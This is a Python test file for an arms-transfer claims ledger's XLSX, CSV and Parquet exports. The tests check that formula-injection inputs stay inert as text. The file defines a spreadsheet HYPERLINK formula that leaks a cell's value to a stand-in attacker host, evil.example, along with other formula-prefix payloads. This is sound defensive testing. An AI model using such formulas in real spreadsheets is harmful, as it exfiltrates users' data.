"""Spreadsheets: XLSX with typed cells, Excel-safe CSV, one claim column naming, typed Parquet."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from ledger_support import REPORT_A, REPORT_B, FakeExtractor, cli_app, db, ledger_url, make_claim  # noqa: F401
from openpyxl import load_workbook
from typer.testing import CliRunner

from armsledger.formats.columns import CLAIM_COLUMNS, LEDGER_CLAIM_COLUMNS
from armsledger.formats.csvfile import BOM, write_csv
from armsledger.ledger.exports import export
from armsledger.ledger.store import Ledger
from armsledger.model import Document, Source

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def filled(db):
    """Two documents; one claim's source is a formula and its evidence mixes scripts, one is dated."""
    ledger = Ledger(db)
    text = "North Korea sent 1,000 shells to Russia, said the ministry in Seoul (서울)."
    ledger.store(
        Document(name="a.txt", text=text, published=date(2024, 3, 3)),
        [make_claim("a.txt", text, source=Source(name=FORMULA, country="KOR"), said_on="2024-03-01")],
        extractor_version="v",
    )
    ledger.store(
        Document(name="b.txt", text=REPORT_B),
        [make_claim("b.txt", "Iran delivered 400 drones.", supplier="IRN", item="drone")],
        extractor_version="v",
    )
    return db


def test_xlsx_export_has_typed_cells_a_frozen_filtered_header_and_inert_formulas(filled, tmp_path):
    path = tmp_path / "claims.xlsx"
    assert export(filled, "claims", "xlsx", path) == 2
    sheet = load_workbook(path)["claims"]
    header = [c.value for c in sheet[1]]
    assert header == list(LEDGER_CLAIM_COLUMNS)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}3"
    assert all(c.font.bold for c in sheet[1])
    rows = {
        r[header.index("doc")]: dict(zip(header, r, strict=False)) for r in sheet.iter_rows(min_row=2, values_only=True)
    }
    a = rows["a.txt"]
    assert a["quantity_value"] == 1000 and isinstance(a["quantity_value"], (int, float))
    assert a["id"] == 1 and a["hedged"] is False
    assert a["said_on"] == datetime(2024, 3, 1) and a["published"] == datetime(2024, 3, 3)
    assert isinstance(a["recorded_at"], datetime)
    assert a["source_name"] == FORMULA  # kept as text, not run
    row = next(r for r in range(2, 4) if sheet.cell(r, header.index("doc") + 1).value == "a.txt")

    def cell(column: str):
        return sheet.cell(row, header.index(column) + 1)

    assert cell("source_name").data_type == "s"
    assert cell("evidence_text").alignment.wrap_text and "서울" in cell("evidence_text").value
    assert cell("said_on").is_date and cell("said_on").number_format == "yyyy-mm-dd"
    assert cell("quantity_value").data_type == "n"


def test_export_all_writes_one_sheet_per_table(filled, tmp_path):
    path = tmp_path / "ledger.xlsx"
    result = runner.invoke(cli_app(), ["export", "all", "--format", "xlsx", "-o", str(path), "--db", filled.url])
    assert result.exit_code == 0 and "exported 5 rows" in result.stderr  # 2 claims, 2 documents, 1 source
    book = load_workbook(path)
    assert book.sheetnames == ["claims", "documents", "sources"]
    assert book["documents"].max_row == 3 and book["sources"]["B2"].value == FORMULA
    refused = runner.invoke(cli_app(), ["export", "all", "--format", "csv", "--db", filled.url])
    assert refused.exit_code == 1 and "use --format xlsx" in refused.stderr


def test_xlsx_cuts_text_over_excels_cell_limit(db, tmp_path):
    long_text = "North Korea sent 1,000 shells to Russia. " + "x" * 40_000
    Ledger(db).store(Document(name="long.txt", text=long_text), [], extractor_version="v")
    export(db, "documents", "xlsx", tmp_path / "d.xlsx")
    sheet = load_workbook(tmp_path / "d.xlsx")["documents"]
    text = sheet.cell(2, [c.value for c in sheet[1]].index("text") + 1).value
    assert len(text) == 32_767 and text.endswith("[…truncated]")


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-5.0, "-5.0"),
        (3, "3"),
        (None, ""),
        (True, "true"),
        (date(2024, 1, 2), "2024-01-02"),
    ],
)
def test_csv_neutralises_formula_cells_but_not_numbers(value, written):
    out = io.StringIO()
    write_csv(["v"], [{"v": value}], out, bom=False)
    assert next(csv.reader(io.StringIO(out.getvalue()[len("v\r\n") :]))) == [written]


def test_csv_byte_order_mark_is_optional(monkeypatch):
    for bom, setting, starts in ((True, None, True), (False, "1", False), (None, "1", True), (None, None, False)):
        if setting:
            monkeypatch.setenv("ARMSLEDGER_CSV_BOM", setting)
        else:
            monkeypatch.delenv("ARMSLEDGER_CSV_BOM", raising=False)
        out = io.StringIO()
        write_csv(["name"], [{"name": "Ким"}], out, bom=bom)
        assert out.getvalue().startswith(BOM) is starts


def test_claims_csv_from_the_cli_is_excel_safe(filled):
    result = runner.invoke(cli_app(), ["claims", "--db", filled.url, "--format", "csv", "--bom"])
    assert result.stdout.startswith(BOM)
    rows = list(csv.DictReader(io.StringIO(result.stdout[1:])))
    assert {r["source_name"] for r in rows} == {"'" + FORMULA, ""}


def test_claim_columns_are_named_the_same_in_extract_claims_and_export(filled, tmp_path, extractor):
    (tmp_path / "a.txt").write_text(REPORT_A)
    extracted = runner.invoke(cli_app(), ["extract", "--format", "csv", str(tmp_path / "a.txt")])
    extract_header = next(csv.reader(io.StringIO(extracted.stdout)))
    listed = runner.invoke(cli_app(), ["claims", "--db", filled.url, "--format", "csv"])
    claims_header = next(csv.reader(io.StringIO(listed.stdout)))
    export(filled, "claims", "csv", tmp_path / "e.csv")
    export_header = next(csv.reader((tmp_path / "e.csv").open(encoding="utf-8")))
    parquet_header = (
        export(filled, "claims", "parquet", tmp_path / "e.parquet"),
        pq.read_table(tmp_path / "e.parquet").column_names,
    )[1]
    assert extract_header == list(CLAIM_COLUMNS)
    assert claims_header == export_header == parquet_header == ["id", *CLAIM_COLUMNS, *claims_header[31:]]
    assert "value" not in extract_header and "evidence_text" in extract_header


def test_parquet_types_said_on_and_published_as_dates(filled, tmp_path):
    export(filled, "claims", "parquet", tmp_path / "c.parquet")
    table = pq.read_table(tmp_path / "c.parquet")
    for column in ("said_on", "published", "published_on"):
        assert table.schema.field(column).type == pa.date32()
    assert date(2024, 3, 1) in table.column("said_on").to_pylist()


def test_ledger_claims_carry_financed_by_deal_and_published(db):
    from armsledger.ledger.exports import records

    text = "Germany paid for 1,000 shells sent by the Czech Republic to Ukraine."
    Ledger(db).store(
        Document(name="c.txt", text=text, published=date(2024, 5, 1)),
        [make_claim("c.txt", text, supplier="CZE", recipient="UKR", financed_by="DEU", deal="sale")],
        extractor_version="v",
    )
    claim = next(records(db, "claims", flat=False)[1])
    assert (claim["financed_by"], claim["deal"], claim["published"]) == ("DEU", "sale", "2024-05-01")
    flat = next(records(db, "claims", flat=True)[1])
    assert (flat["financed_by"], flat["deal"], flat["published"]) == ("DEU", "sale", date(2024, 5, 1))
